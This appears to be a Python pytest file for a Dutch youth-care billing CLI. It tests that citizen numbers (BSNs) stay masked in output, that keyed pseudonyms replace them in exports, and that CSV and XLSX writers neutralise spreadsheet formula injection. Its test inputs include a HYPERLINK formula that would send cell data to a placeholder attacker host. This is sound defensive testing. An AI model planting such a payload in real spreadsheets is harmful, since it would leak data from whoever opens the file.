"""Privacy and export safety.

* No BSN of the store appears in any command's terminal output (stdout or stderr), in any format,
  unless --show-bsn is given; error messages included. Only exchange files (export declaraties,
  JW323 messages, retour answers) hold them.
* ``export declaraties --pseudoniem`` writes keyed pseudonyms instead of BSNs.
* Every csv/xlsx jzcli writes keeps text that looks like a formula as literal text.
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import hmac
import io
import json
import re
import shutil
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import sqlalchemy as sa
import typer.main

from jzcli.store.store import Store

SAMPLES = Path(__file__).resolve().parent.parent / "data" / "samples"
KEY = "een-geheime-sleutel-van-de-gemeente"

# How to run each command on the imported samples ({tmp} is a fresh folder). Commands with a --db
# option get it added; commands with --format are also run with every format. A registered command
# missing here is run without arguments and must then succeed: add it here when it needs more.
INVOCATIONS: dict[str, list[list[str]]] = {
    "import": [[str(SAMPLES), "--aanbieder", "98001202"]],
    "batches": [[]],
    "validate": [
        [],
        ["--details"],
        ["--opnieuw", "--details"],
        ["-o", "{tmp}/bevindingen.xlsx"],
        ["-o", "{tmp}/bevindingen.csv"],
        ["-o", "{tmp}/bevindingen.json"],
    ],
    "rules": [[]],
    "report": [
        [],
        ["--gemeente", "Huizen"],
        ["--gemeente", "Huizen", "--by", "aanbieder"],
        ["-o", "{tmp}/rapport.xlsx"],
    ],
    "retour": [["-o", "{tmp}/retour"]],
    "store upgrade": [["{tmp}/oud.db"]],  # an SQLite store of the samples, made first (below)
    "check": [
        [
            str(SAMPLES / "huizen_zorgfirst_2025-03.xlsx"),
            str(SAMPLES / "blaricum_jeugdzorg-de-horizon_2025-03.csv"),
            "--aanbieder",
            "98001202",
            "--contract",
            str(SAMPLES / "contract_gooi-en-vechtstreek_2025.toml"),
            "--toewijzingen",
            str(SAMPLES / "toewijzingen_2025.xlsx"),
        ],
        [
            str(SAMPLES / "huizen_zorgfirst_2025-03.xlsx"),
            "--contract",
            str(SAMPLES / "contract_gooi-en-vechtstreek_2025.toml"),
            "--toewijzingen",
            str(SAMPLES / "toewijzingen_2025.xlsx"),
            "-o",
            "{tmp}/check.xlsx",
        ],
    ],
    "export declaraties": [["-o", "{tmp}/alle.csv"], ["-o", "{tmp}/alle.xlsx"]],
    "export jw323": [["--batch", "4", "-o", "{tmp}/jw323"]],
}
# Files these commands write may hold BSNs (they are meant for exchange with other systems).
EXCHANGE_FILES = ("export declaraties", "export jw323", "retour")


def registered_commands() -> dict[str, object]:
    from jzcli.cli.app import app

    found: dict[str, object] = {}

    def walk(cmd, path):
        if hasattr(cmd, "commands"):
            for name, sub in cmd.commands.items():
                walk(sub, [*path, name])
        else:
            found[" ".join(path)] = cmd

    walk(typer.main.get_command(app), [])
    return found


def format_choices(param) -> list[str]:
    """The values of a --format option (an Enum in Typer)."""
    annotation = getattr(getattr(param, "type_descriptor", None), "annotation", None)
    if annotation is not None and hasattr(annotation, "__members__"):
        return [m.value for m in annotation]
    return list(getattr(getattr(param, "type", None), "choices", []))


def store_bsns(url: str) -> set[str]:
    """Every BSN the store holds: lines, allocations, and raw values of BSN import findings."""
    engine = sa.create_engine(url)
    found: set[str] = set()
    try:
        with engine.connect() as conn:
            for query in (
                "select bsn from declaratieregels where bsn is not null",
                "select bsn from toewijzingen where bsn is not null",
                "select waarde from importbevindingen where veld = 'bsn' and waarde is not null",
            ):
                found |= {str(v).strip() for (v,) in conn.exec_driver_sql(query)}
    finally:
        engine.dispose()
    return {b for b in found if b.isdigit() and len(b) >= 7}


def leaks(text: str, bsns: set[str]) -> list[str]:
    """BSNs (and their forms without leading zeros, as Excel shows them) that appear in ``text``."""
    hits = []
    for b in bsns:
        for form in {b, b.lstrip("0")}:
            if len(form) >= 7 and re.search(rf"(?<!\d){form}(?!\d)", text):
                hits.append(form)
    return hits


def file_text(path: Path) -> str:
    """Everything a written file says, xlsx cells included."""
    if path.is_dir():
        return "\n".join(file_text(p) for p in sorted(path.rglob("*")) if p.is_file())
    if path.suffix.lower() == ".xlsx":
        wb = openpyxl.load_workbook(path)
        return "\n".join(
            str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None
        )
    return path.read_text(encoding="utf-8", errors="replace")


@pytest.fixture
def sample_store(db_url, cli):
    r = cli("import", SAMPLES, "--aanbieder", "98001202", "--db", db_url)
    assert r.exit_code == 0, r.output
    return db_url, r


def test_no_command_shows_a_bsn(sample_store, cli, tmp_path):
    url, first_import = sample_store
    bsns = store_bsns(url)
    assert len(bsns) >= 20 and "001234572" in bsns
    assert not leaks(first_import.output, bsns)

    commands = registered_commands()
    runs = 0
    for name, command in commands.items():
        params = {p.name: p for p in command.params}
        formats = format_choices(params["fmt"]) if "fmt" in params else []
        for n, base in enumerate(INVOCATIONS.get(name, [[]])):
            folder = tmp_path / f"{name.replace(' ', '_')}_{n}"
            folder.mkdir()
            args = [a.replace("{tmp}", str(folder)) for a in base]
            if name == "store upgrade":
                old = cli("import", SAMPLES, "--aanbieder", "98001202", "--db", f"sqlite:///{folder}/oud.db", "-q")
                assert old.exit_code == 0, old.output
            if "db" in params:
                args += ["--db", url]
            writes_file = "-o" in args
            variants = [[]] + ([["--format", f] for f in formats] if not writes_file else [])
            for extra in variants:
                r = cli(*name.split(), *args, *extra)
                runs += 1
                where = f"jzcli {name} {' '.join(base + extra)}"
                if extra and r.exit_code == 2 and "--format" in r.stderr:
                    continue  # a format this command does not offer (e.g. csv for a tree of messages)
                assert r.exit_code in (0, 1), f"{where}: exit {r.exit_code}: {r.output[-2000:]}"
                assert "Traceback" not in r.output and "unexpected internal error" not in r.output, where
                assert not leaks(r.output, bsns), f"{where} shows BSNs {leaks(r.output, bsns)[:3]}"
            if writes_file and name not in EXCHANGE_FILES:
                assert not leaks(file_text(folder), bsns), f"jzcli {name} wrote BSNs to {folder}"
    assert runs >= 25
    for name in ("import", "batches", "export declaraties", "validate", "report", "rules"):
        assert name in commands or name not in INVOCATIONS


def test_the_leak_check_can_see_a_bsn(tmp_path, embedded_url, cli):
    """With --show-bsn a BSN is shown in full, so the check above would see a leak; without, masked."""
    rows = [["BSN", "Productcode", "Van", "Tot", "Aantal", "Gemeente", "AGB"]]
    rows += [["1234567890", "45A48", "01-03-2025", "31-03-2025", "3", "Huizen", "98001234"]]
    for name, extra in (("shown.csv", ["--show-bsn"]), ("masked.csv", [])):
        src = tmp_path / name
        with src.open("w", encoding="utf-8", newline="") as fh:
            csv.writer(fh, delimiter=";").writerows(rows)
        rows[1][1] = "45A49"  # a different file each time
        r = cli("import", src, "--db", embedded_url, *extra)
        assert r.exit_code == 0, r.output
        bsns = store_bsns(embedded_url)
        assert "1234567890" in bsns
        if extra:
            assert leaks(r.output, bsns)
        else:
            assert not leaks(r.output, bsns) and "******7890" in r.output


def test_error_messages_do_not_show_bsns(tmp_path, embedded_url, cli):
    """A file whose header is not found: the message lists the most header-like cells, masked."""
    rows = [
        ["999900006", "45A48", "01-03-2025", "31-03-2025", "3", "Huizen"],
        ["999900018", "45A48", "01-03-2025", "31-03-2025", "2", "Huizen"],
    ]
    src = tmp_path / "noheader.csv"
    with src.open("w", encoding="cp1252", newline="") as fh:
        csv.writer(fh, delimiter=";").writerows(rows)
    for extra in ([], ["--soort", "declaraties"], ["--soort", "toewijzingen"]):
        r = cli("import", src, "--db", embedded_url, "-q", *extra)
        assert r.exit_code == 3, r.output
        assert "noheader.csv" in r.stderr
        assert "999900006" not in r.output and "999900018" not in r.output, r.stderr
    nobsn = tmp_path / "nobsn.csv"
    nobsn.write_text("Cliënt;Productcode;Van;Tot;Aantal\n999900006;45A48;01-03-2025;31-03-2025;3\n", encoding="utf-8")
    r = cli("import", nobsn, "--db", embedded_url, "-q", "--aanbieder", "98001234", "--gemeente", "Huizen")
    assert r.exit_code == 3 and "999900006" not in r.output


# ------------------------------------------------------------------------------- pseudonyms


def _export(cli, url, target: Path, *extra, env_key: str | None = None, monkeypatch=None):
    if monkeypatch is not None:
        if env_key is None:
            monkeypatch.delenv("JZCLI_PSEUDONIEM_SLEUTEL", raising=False)
        else:
            monkeypatch.setenv("JZCLI_PSEUDONIEM_SLEUTEL", env_key)
    return cli("export", "declaraties", "-o", target, "--db", url, "-q", *extra)


def _pseudonym(key: str, bsn: str) -> str:
    return hmac.new(key.encode(), bsn.encode(), hashlib.sha256).hexdigest()[:20]


def test_pseudonymised_export(sample_store, cli, tmp_path, monkeypatch):
    url, _ = sample_store
    bsns = store_bsns(url)
    keyfile = tmp_path / "sleutel.txt"
    keyfile.write_text(KEY + "\n")

    plain = tmp_path / "plain.csv"
    assert _export(cli, url, plain).exit_code == 0
    plain_rows = list(csv.DictReader(plain.open(encoding="utf-8")))

    a = tmp_path / "a.csv"
    r = _export(cli, url, a, "--pseudoniem", "--sleutel-bestand", keyfile, monkeypatch=monkeypatch)
    assert r.exit_code == 0, r.output
    rows = list(csv.DictReader(a.open(encoding="utf-8")))
    assert "bsn" not in rows[0] and "bsn_pseudoniem" in rows[0]
    assert len(rows) == len(plain_rows)
    assert not leaks(a.read_text(encoding="utf-8"), bsns)
    for p, q in zip(plain_rows, rows):
        assert q["bsn_pseudoniem"] == (_pseudonym(KEY, p["bsn"]) if p["bsn"] else "")
        assert {k: v for k, v in q.items() if k != "bsn_pseudoniem"} == {k: v for k, v in p.items() if k != "bsn"}
    # The same BSN always maps to the same pseudonym; different BSNs to different ones.
    pairs = {(p["bsn"], q["bsn_pseudoniem"]) for p, q in zip(plain_rows, rows) if p["bsn"]}
    assert len({b for b, _ in pairs}) == len(pairs) == len({s for _, s in pairs})

    # The same key from the environment gives the same file; xlsx holds the same pseudonyms.
    b = tmp_path / "b.csv"
    assert _export(cli, url, b, "--pseudoniem", env_key=KEY, monkeypatch=monkeypatch).exit_code == 0
    assert b.read_bytes() == a.read_bytes()
    x = tmp_path / "c.xlsx"
    assert _export(cli, url, x, "--pseudoniem", env_key=KEY, monkeypatch=monkeypatch).exit_code == 0
    sheet = pd.read_excel(x, dtype=str, engine="openpyxl")
    assert sheet["bsn_pseudoniem"].fillna("").tolist() == [q["bsn_pseudoniem"] for q in rows]
    assert not leaks(file_text(x), bsns)

    # Another key, other pseudonyms.
    c = tmp_path / "other.csv"
    assert (
        _export(cli, url, c, "--pseudoniem", env_key="een-andere-sleutel-1234", monkeypatch=monkeypatch).exit_code == 0
    )
    other = list(csv.DictReader(c.open(encoding="utf-8")))
    assert all(o["bsn_pseudoniem"] != q["bsn_pseudoniem"] for o, q in zip(other, rows) if q["bsn_pseudoniem"])


def test_pseudonym_refusals(sample_store, cli, tmp_path, monkeypatch):
    url, _ = sample_store
    target = tmp_path / "x.csv"
    r = _export(cli, url, target, "--pseudoniem", monkeypatch=monkeypatch)
    assert r.exit_code == 2 and "JZCLI_PSEUDONIEM_SLEUTEL" in r.stderr and "--sleutel-bestand" in r.stderr
    r = _export(cli, url, target, "--pseudoniem", env_key="kort", monkeypatch=monkeypatch)
    assert r.exit_code == 2 and "too short" in r.stderr
    r = _export(
        cli, url, target, "--pseudoniem", "--sleutel-bestand", tmp_path / "missing.key", monkeypatch=monkeypatch
    )
    assert r.exit_code == 3 and "missing.key" in r.stderr
    r = _export(cli, url, target, "--sleutel-bestand", tmp_path / "missing.key", monkeypatch=monkeypatch)
    assert r.exit_code == 2 and "--pseudoniem" in r.stderr
    assert not target.exists()
    assert "Traceback" not in r.output


# -------------------------------------------------------------------------- formula injection

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "+31612345678",
    "-x",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
    "=1+1",
    "-2+3",
]
NUMBERS = [1, -2, 3, 0, 10**12, -7, 8, 9]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _assert_csv_safe(path: Path, expected_text: list[str] | None = None) -> None:
    text = path.read_bytes().decode("utf-8")  # no newline translation: "\r" is part of a value
    for row in csv.reader(io.StringIO(text, newline="")):
        for value in row:
            if value.startswith(FORMULA_START):
                assert re.fullmatch(r"-\d+(\.\d+)?", value), f"{path.name}: {value!r} would be a formula"
    if expected_text:
        for value in expected_text:
            assert ("'" + value).replace('"', '""') in text or ("'" + value) in text, value


def _assert_xlsx_safe(path: Path, expected_text: list[str] | None = None, numbers: list | None = None) -> None:
    wb = openpyxl.load_workbook(path)
    texts, nums = set(), []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{path.name} {ws.title}!{c.coordinate}: formula {c.value!r}"
                if isinstance(c.value, str):
                    texts.add(c.value)
                elif isinstance(c.value, (int, float)):
                    nums.append(c.value)
    for value in expected_text or []:
        assert value in texts, value
    for value in numbers or []:
        assert value in nums, value


def test_writers_keep_formula_text_literal(tmp_path):
    from jzcli.output.records import write_records
    from jzcli.output.xlsx import write_frames

    frame = pd.DataFrame({"tekst": HOSTILE, "getal": NUMBERS})
    write_records(tmp_path / "t.csv", table=lambda: frame)
    write_frames({"Declaraties": frame}, tmp_path / "t.xlsx")
    write_frames({"=Blad": frame}, tmp_path / "w.xlsx")
    _assert_csv_safe(tmp_path / "t.csv", HOSTILE)
    rows = list(csv.DictReader((tmp_path / "t.csv").open(encoding="utf-8", newline="")))
    assert [r["getal"] for r in rows] == [str(n) for n in NUMBERS]  # numbers stay numbers
    for path in (tmp_path / "t.xlsx", tmp_path / "w.xlsx"):
        _assert_xlsx_safe(path, HOSTILE, NUMBERS)


def _hostile_declaration(path: Path) -> Path:
    header = [
        "Aanbieder",
        "Gemeente",
        "DeclaratieNummer",
        "ReferentieNummer",
        "VorigReferentieNummer",
        "Bsn",
        "ToewijzingNummer",
        "ProductCategorie",
        "ProductCode",
        "Begindatum",
        "Einddatum",
        "GeleverdVolume",
        "Eenheid",
        "ProductTarief",
        "IngediendBedrag",
        "DebetCredit",
    ]
    rows = [header]
    texts = [HOSTILE[0], "+31612345678", "-x", "@SUM(A1:A9)", "=1+1"]
    for i, text in enumerate(texts):
        rows.append(
            [
                "98001101",
                "0406",
                text,
                f"{text[:40]}{i}",
                None,
                "999900006",
                "@T" + str(i),
                "45",
                "45A48",
                dt.date(2025, 3, 1),
                dt.date(2025, 3, 31),
                3,
                "04",
                79.8,
                239.4,
                "D",
            ]
        )
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Declaratie"
    for row in rows:
        ws.append(row)
    for row in ws.iter_rows(min_row=2):
        for c in row:
            if isinstance(c.value, str) and c.value.startswith("="):
                c.data_type = "s"  # the provider typed text, not a formula
    wb.save(path)
    return path


def test_every_file_jzcli_writes_keeps_provider_text_literal(tmp_path, embedded_url, cli):
    src = _hostile_declaration(tmp_path / "=1+1.xlsx")  # a file name is provider text too
    for f in ("contract_gooi-en-vechtstreek_2025.toml", "toewijzingen_2025.xlsx"):
        shutil.copy(SAMPLES / f, tmp_path / f)
    r = cli("import", tmp_path, "--db", embedded_url, "-q")
    assert r.exit_code == 0, r.output
    lines = Store.open(embedded_url).declaraties()
    assert HOSTILE[0] in lines["declaratienummer"].tolist()

    out = tmp_path / "out"
    out.mkdir()
    commands = registered_commands()
    written: list[Path] = []
    for suffix in ("csv", "xlsx"):
        target = out / f"export.{suffix}"
        assert cli("export", "declaraties", "-o", target, "--db", embedded_url, "-q").exit_code == 0
        written.append(target)
        if "validate" in commands:
            target = out / f"validate.{suffix}"
            r = cli("validate", "--opnieuw", "-o", target, "--db", embedded_url, "-q")
            assert r.exit_code in (0, 1), r.output
            written.append(target)
        if "check" in commands:
            target = out / f"check.{suffix}"
            r = cli("check", src, "--contract", tmp_path / "contract_gooi-en-vechtstreek_2025.toml", "-o", target, "-q")
            assert r.exit_code in (0, 1), r.output
            written.append(target)
    if "report" in commands:
        target = out / "report.xlsx"
        r = cli("report", "-o", target, "--db", embedded_url, "-q")
        assert r.exit_code == 0, r.output
        written.append(target)
    for path in written:
        assert path.exists(), path
        if path.suffix == ".csv":
            _assert_csv_safe(path)
        else:
            _assert_xlsx_safe(path)
    export_xlsx = openpyxl.load_workbook(out / "export.xlsx").active
    values = {c.value for row in export_xlsx.iter_rows() for c in row}
    assert {HOSTILE[0], "+31612345678", "-x", "@SUM(A1:A9)", "=1+1"} <= values
    numbers = [c.value for c in next(export_xlsx.iter_cols(min_col=16, max_col=16, min_row=2))]
    assert numbers == [3] * 5  # volume stays a number

    # CSV on stdout too: import and batches summaries name files and messages.
    for command in (["batches", "--format", "csv"], ["import", src, "--format", "csv"]):
        r = cli(*command, "--db", embedded_url)
        for row in csv.reader(io.StringIO(r.stdout)):
            for value in row:
                assert not value.startswith(FORMULA_START) or re.fullmatch(r"-\d+(\.\d+)?", value), (command, value)


def test_json_summaries_are_json(sample_store, cli):
    """--format json output is machine-readable and holds no BSN either."""
    url, _ = sample_store
    r = cli("batches", "--format", "json", "--db", url)
    data = json.loads(r.stdout)
    assert {d["bestand"] for d in data} >= {"huizen_zorgfirst_2025-03.xlsx"}
    assert not leaks(r.stdout, store_bsns(url))


def test_csv_with_lf_line_ends_keeps_a_carriage_return_inside_its_cell(tmp_path):
    """LF line ends: the csv module would leave a lone CR unquoted and every reader would end the
    row there; such a row is written fully quoted, on stdout and in files alike."""
    from jzcli.output.records import csv_text, write_records

    frame = pd.DataFrame({"tekst": ["gewoon", "regel\rmet CR", "a\r\nb"], "getal": [1, 2, 3]})
    text = csv_text(frame)
    assert text == 'tekst,getal\ngewoon,1\n"regel\rmet CR","2"\n"a\r\nb","3"\n'
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["tekst", "getal"],
        ["gewoon", "1"],
        ["regel\rmet CR", "2"],
        ["a\r\nb", "3"],
    ]
    write_records(tmp_path / "t.csv", table=lambda: frame)
    back = pd.read_csv(tmp_path / "t.csv", encoding="utf-8-sig", keep_default_na=False)
    assert back["tekst"].tolist() == ["gewoon", "regel\rmet CR", "a\r\nb"] and back["getal"].tolist() == [1, 2, 3]


def test_csv_of_columns_without_text_and_of_mixed_columns():
    """Number-only object columns (Decimals, None) and mixed columns go through the CR check too."""
    from decimal import Decimal

    from jzcli.output.records import csv_text

    frame = pd.DataFrame({"bedrag": [Decimal("1.50"), None], "mixed": [3, "x\ry"], "leeg": [None, None]})
    assert csv_text(frame) == 'bedrag,mixed,leeg\n1.50,3,\n"","x\ry",""\n'
